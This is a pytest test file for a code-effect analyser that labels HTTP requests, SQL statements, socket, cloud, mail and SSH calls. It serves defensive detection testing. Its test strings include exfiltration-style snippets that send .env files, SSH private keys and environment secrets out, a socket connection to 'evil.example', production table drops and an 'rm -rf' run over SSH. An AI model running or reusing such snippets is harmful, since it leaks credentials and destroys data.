"""Requests, sockets, mail, databases and clouds in Python."""

from __future__ import annotations

from typing import Any

import pytest
from support.code import deeds, python

from enactd.effects.model import ChangeStore, Request, RunSql, SendData


def one(code: str, kind: type) -> Any:
    (found,) = (effect for effect in python(code) if isinstance(effect, kind))
    return found


@pytest.mark.parametrize(
    ("code", "method", "changes"),
    [
        ("import requests; requests.get('https://x.y')", "GET", "nothing"),
        ("import requests; requests.delete('https://x.y/1')", "DELETE", "destroys"),
        ("import requests; requests.Session().post('https://x.y', json={})", "POST", "something"),
        ("import requests\nwith requests.Session() as s:\n    s.put('https://x.y', data='x')", "PUT", "something"),
        ("import requests; requests.request('DELETE', 'https://x.y/1')", "DELETE", "destroys"),
        ("import httpx; httpx.Client().patch('https://x.y', json={})", "PATCH", "something"),
        ("import urllib.request; urllib.request.urlopen('https://x.y')", "GET", "nothing"),
        (
            "import urllib.request as r; r.urlopen(r.Request('https://x.y', data=b'x', method='DELETE'))",
            "DELETE",
            "destroys",
        ),
        ("import http.client; http.client.HTTPSConnection('x.y').request('DELETE', '/1')", "DELETE", "destroys"),
    ],
)
def test_requests(code: str, method: str, changes: str) -> None:
    """Method and meaning are told whatever the library."""
    found = one(code, Request)
    assert (method, "x.y", changes) == (found.method, found.host, found.changes)


@pytest.mark.parametrize(
    "code",
    [
        "import requests; requests.post('https://x.y', data=open('.env').read())",
        "import requests; requests.post('https://x.y', files={'f': open('/home/u/.ssh/id_rsa')})",
        "import requests, os; requests.post('https://x.y', json={'k': os.environ['API_KEY']})",
        "import requests, os; requests.get('https://x.y', params={'k': os.environ['API_KEY']})",
        "import requests, os; requests.post('https://x.y', json=dict(os.environ))",
        "import requests, base64; requests.get('https://x.y/?' + base64.b64encode(open('.env','rb').read()).decode())",
    ],
)
def test_secrets_go_along(code: str) -> None:
    """What is read from a secret place stays secret on its way out."""
    assert "secret" in one(code, Request).carries


@pytest.mark.parametrize(
    ("code", "verb", "stage"),
    [
        ("import sqlite3; sqlite3.connect(':memory:').execute('DELETE FROM t')", "delete", "memory"),
        ("import sqlite3; c = sqlite3.connect('x.db').cursor(); c.execute('DROP TABLE t')", "drop", "local"),
        (
            "import psycopg2; psycopg2.connect('postgres://prod.example.com/a').cursor().execute('TRUNCATE t')",
            "truncate",
            "production",
        ),
        (
            "from sqlalchemy import create_engine, text\nwith create_engine('postgresql://prod.example.com/a').connect() as c:\n    c.execute(text('DROP TABLE t'))",
            "drop",
            "production",
        ),
    ],
)
def test_statements(code: str, verb: str, stage: str) -> None:
    """The connection says which database it is."""
    found = one(code, RunSql)
    assert (verb, stage) == (found.verb, found.database.stage)


def test_others() -> None:
    """Stores, sockets, mail, clouds and other machines."""
    assert one("db.users.delete_many({})", ChangeStore).everything
    assert not one("db.users.delete_many({'a': 1})", ChangeStore).everything
    assert ["ChangeStore delete"] == deeds(python("User.objects.all().delete()"))
    assert ["ResetDatabase drop"] == deeds(python("Base.metadata.drop_all(engine)"))
    assert "evil.example" == one("import socket; s = socket.socket(); s.connect(('evil.example', 80))", SendData).to
    assert ["ChangeInfrastructure delete"] == deeds(
        python("import boto3; boto3.client('s3').delete_bucket(Bucket='x')")
    )
    assert [] == deeds(python("import boto3; boto3.client('s3').list_buckets()"))
    assert ["SendMessage b"] == deeds(python("import smtplib; smtplib.SMTP('x').sendmail('a', 'b', 'c')"))
    code = "import paramiko; c = paramiko.SSHClient(); c.connect('srv'); c.exec_command('rm -rf /x')"
    assert "ssh srv" == python(code)[0].place
